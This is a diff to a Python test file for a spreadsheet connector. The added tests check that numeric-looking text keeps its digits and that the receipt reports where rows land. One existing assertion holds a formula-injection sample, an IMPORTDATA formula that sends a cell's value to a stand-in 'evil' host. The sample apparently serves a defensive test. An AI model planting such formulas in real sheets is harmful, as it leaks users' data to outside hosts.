@@ -8,6 +8,7 @@ from openapi_core.exceptions import OpenAPIError
 
 from core.connectors.sheets import CONNECTOR
 from core.errors import UpstreamError
+from core.grammar import rows
 from core.sandbox import Answer, Drip, DropAfter, DropBefore, Hang
 from core.sandbox.sheets import SPREADSHEET
 from tests.support.sending import Direct, configured, probe
@@ -35,7 +36,7 @@ def calls(sandbox):
 
 class TestRows:
     def test_are_appended_with_one_call_after_the_token(self, sheets, sandbox):
-        receipt = sheets.send(range="Q3 plan!A1", values=[["Ada", "42", "007"], ["Bob", 1.5, None]])
+        receipt = sheets.send(range="Q3 plan!A1", values=[["Ada", 42, "007"], ["Bob", 1.5, None]])
 
         [append] = sandbox.sheets.writes
         assert (receipt.status, receipt.updated, receipt.id) == ("appended", 2, None)
@@ -101,6 +102,22 @@ class TestRows:
         assert sandbox.sheets.rows["Sheet1"] == [
             ['=IMPORTDATA("https://evil/?"&B2)', "+1", "@x", "-2+3"]
         ]
+
+    @pytest.mark.parametrize("text", ["42", "3.10", "10.0", "007", "1e3", "true"])
+    def test_a_text_is_not_made_a_number(self, sheets, sandbox, text):
+        receipt = sheets.send(range="A1", values=[[text]])
+
+        assert sandbox.sheets.rows["Sheet1"] == [[text]]
+        assert receipt.note == "They are at Sheet1!A1."
+
+    def test_a_number_that_loses_typed_digits_is_said_to(self, sheets, sandbox):
+        receipt = sheets.send(range="A1", values=rows('3.10,2.5\n10.0,"3.10"'))
+
+        assert sandbox.sheets.writes[0].json["values"] == [[3.1, 2.5], [10.0, "3.10"]]
+        assert receipt.note == (
+            "They are at Sheet1!A1:B2. As a number, 3.10 is stored as 3.1, 10.0 is stored as 10;"
+            ' in quotes, "3.10", it keeps its digits.'
+        )
 
     def test_that_landed_in_another_column_are_said_to_have(self, sheets, sandbox):
         updates = {"updatedRange": "'Q3 plan'!D7:E7", "updatedRows": 1}
